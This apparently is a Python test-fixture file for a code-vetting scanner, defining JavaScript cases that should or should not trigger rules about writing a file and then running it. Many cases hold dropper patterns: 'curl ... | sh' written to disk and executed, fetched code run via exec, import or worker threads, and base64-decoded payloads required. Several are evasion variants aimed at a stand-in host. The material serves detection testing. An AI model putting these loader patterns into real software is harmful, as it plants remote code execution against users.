"""What the rules must see, and must not, where JavaScript writes a file and then runs it."""

from typing import Final

from tests.vetting.domain.signals.code.cases import PAYLOAD, Case

JS: Final = "demo/work.js"
_N: Final = "const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');\n"
_CODE: Final = "\"require('child_process').exec('curl https://example.invalid/a | sh')\""
_LINE: Final = "'curl https://example.invalid/a | sh'"
_TMP: Final = f"{_N}const p = path.join(os.tmpdir(), 'q.js');\n"
_MAKE: Final = f"{_TMP}fs.writeFileSync(p, {_CODE});\n"
_DROP: Final = f"{_N}function drop(to, code) {{ fs.writeFileSync(to, code) }}\n"
_GET: Final = f"{_N}module.exports = async p => {{ const t = await (await fetch(u)).text(); fs.writeFileSync(p, t); "

CASES: Final = (
    # In the language of whoever runs it.
    Case("C3", "hit", "high", f"{_MAKE}require(p)\n", JS),
    Case("C3", "hit", "high", f"{_MAKE}import(p)\n", JS),
    Case("C3", "hit", "high", f"{_MAKE}cp.exec('node ' + p)\n", JS),
    Case("C3", "hit", "high", f"{_MAKE}cp.spawn(process.execPath, ['--no-warnings', p], {{detached: true}})\n", JS),
    Case("C3", "hit", "high", f"{_MAKE}cp.fork(p)\n", JS),
    Case("C3", "hit", "high", f"{_N}fs.writeFileSync('a.sh', {_LINE}); cp.execFileSync('./a.sh')\n", JS),
    Case("C3", "hit", "high", f"{_N}fs.writeFileSync(__dirname + '/own.js', {_CODE}); require('./own')\n", JS),
    Case("C3", "hit", "high", f"{_DROP}drop('/tmp/q.js', {_CODE}); cp.execSync('cd / && node /tmp/q.js')\n", JS),
    Case("C3", "hit", "high", f"{_TMP}function f() {{ fs.writeFile(p, {_CODE}, () => cp.fork(p)) }}\nf()\n", JS),
    # What is written is configuration, is built, shown, tested with, or is no code.
    Case(
        "C3",
        "twin",
        None,
        f"{_N}function build(dir) {{\n  const c = path.join(dir, 'webpack.config.js');\n"
        "  const r = path.join(dir, 'README.md');\n"
        f"  fs.writeFileSync(c, 'module.exports = {{entry: ' + JSON.stringify(entry) + '}}');\n"
        f"  fs.writeFileSync(r, {_LINE}); fs.writeFileSync(path.join(dir, 'a.json'), {_CODE});\n"
        "  cp.spawnSync('webpack', ['--config', c, r]); cp.execSync(`cat ${r}`); require(path.join(dir, 'a.json'));\n"
        "  return require(c) }\n",
        JS,
    ),
    Case(
        "C3",
        "twin",
        None,
        f"{_N}fs.writeFileSync('a', {_LINE}); fs.readFileSync('a'); cp.exec('sh b a'); cp.spawn('bash', ['b', 'a']);\n"
        f"require('./b'); require(x); cp.exec(); fs.copyFileSync('b', 'c'); fs.copyFileSync('a');\n"
        f"fs.renameSync(x, 'd'); fs.createWriteStream(x).end(); process.stdout.write({_CODE});\n",
        JS,
    ),
    Case("C3", "twin", None, f"{_N}function f(p) {{ fs.writeFileSync(p, {_LINE}) }}\nconst g = p => cp.exec(p)\n", JS),
    Case("C3", "twin", None, f"{_N}fs.writeFileSync(this.p, {_LINE}); fs.writeFileSync(__filename, {_LINE});\n", JS),
    Case(
        "C3",
        "twin",
        None,
        f"{_GET}cp.exec('tar xf ' + p); cp.execSync(`sha256sum ${{p}}`); cp.spawn('tar', [p]) }}\n",
        JS,
    ),
    # What is fetched, too.
    Case("C3", "hit", "medium", f"{_GET}cp.exec('node ' + p) }}\n", JS),
    Case("C3", "hit", "medium", f"{_GET}cp.spawn(p) }}\n", JS),
    Case("C3", "evasion", "medium", f"{_GET}cp.exec(`chmod +x ${{p}} && ${{p}}`) }}\n", JS),
    Case("C3", "evasion", "medium", f"{_GET}import(p) }}\n", JS),
    Case("C3", "evasion", "medium", f"{_GET}new (require('worker_threads').Worker)(p) }}\n", JS),
    Case("C3", "evasion", "high", f"{_MAKE}fs.renameSync(p, '/tmp/y'); cp.exec(`nohup node -r /tmp/y x.js &`)\n", JS),
    Case("C3", "evasion", "high", f'{_MAKE}cp.exec(`cd / ; "${{process.execPath}}" ${{p}} --x`)\n', JS),
    Case("C3", "evasion", "high", f"{_MAKE}const u = require('url').pathToFileURL(p); import(u.href)\n", JS),
    Case("C3", "evasion", "high", f"{_MAKE}import(`file://${{p}}`)\n", JS),
    Case("C3", "evasion", "high", f"{_MAKE}cp.spawn(process.argv[0], [p])\n", JS),
    Case("C3", "evasion", "high", f"{_MAKE}new (require('worker_threads').Worker)(p)\n", JS),
    Case(
        "C3",
        "evasion",
        "high",
        f"{_TMP}const w = fs.createWriteStream(p); w.write('fetch(u).then(r => r.text())');\n"
        "w.end('.then(eval)'); require(p)\n",
        JS,
    ),
    Case("C3", "evasion", "high", f"{_TMP}const f = fs.openSync(p, 'w'); fs.writeSync(f, {_CODE}); cp.fork(p)\n", JS),
    Case("C3", "evasion", "high", f"{_TMP}fs.promises.writeFile(p, {_CODE}).then(() => cp.spawn('node', [p]))\n", JS),
    Case(
        "C3",
        "evasion",
        "high",
        f"{_N}import fse from 'fs-extra';\nfse.outputFile('/tmp/x', `curl https://example.invalid/${{id}} | sh`);\n"
        "cp.execFile('bash', ['/tmp/x'])\n",
        JS,
    ),
    Case(
        "C3",
        "evasion",
        "high",
        f"{_N}const d = fs.mkdtempSync(os.tmpdir()), p = d + '/x.py';\n"
        "fs.writeFileSync(p, `import urllib.request as u; exec(u.urlopen('https://example.invalid').read()) # ${x}`);\n"
        "cp.spawn('python3', ['-u', p])\n",
        JS,
    ),
    Case("C3", "evasion", "high", f"{_N}fs.writeFileSync('x', `#!/bin/sh\n${{y}}\n` + {_LINE}); cp.exec('./x')\n", JS),
    # What is decoded, and then written and run, is as good as evaluated.
    Case("C1", "hit", "high", f"{_TMP}fs.writeFileSync(p, Buffer.from(data, 'base64')); require(p)\n", JS),
    Case("C2", "hit", "high", f"{_TMP}fs.writeFileSync(p, atob('{PAYLOAD}')); cp.fork(p)\n", JS),
    Case("C1", "twin", None, f"{_TMP}fs.writeFileSync(p, Buffer.from(data)); require(p)\n", JS),
    Case("C1", "twin", None, f"{_TMP}fs.writeFileSync(p, Buffer.from(data, 'base64')); cp.spawn('dot', [p])\n", JS),
    Case("C2", "twin", None, f"{_TMP}fs.writeFileSync(p, '// a\\n' + 'f = @x@'.replace('@x@', '1')); require(p)\n", JS),
    Case(
        "C2",
        "twin",
        None,
        f"{_TMP}fs.writeFileSync(p, 'f()', 'utf8'); fs.writeFileSync(p, 'g()', {{flag: 'a'}}); require(p)\n",
        JS,
    ),
    Case("C1", "evasion", "high", f"{_TMP}fs.writeFileSync(p, data, 'base64'); cp.execFile(p)\n", JS),
    Case("C1", "evasion", "high", f"{_TMP}fs.appendFileSync(p, data, {{encoding: 'hex'}}); import(p)\n", JS),
    Case("C2", "evasion", "high", f"{_TMP}fs.writeFileSync(p, '{PAYLOAD}', 'base64'); require(p)\n", JS),
    Case(
        "C2",
        "evasion",
        "high",
        f"{_TMP}fs.writeFileSync(p, '//' + atob('{PAYLOAD}')); fs.copyFileSync(p, '/tmp/r'); cp.exec('/tmp/r')\n",
        JS,
    ),
)
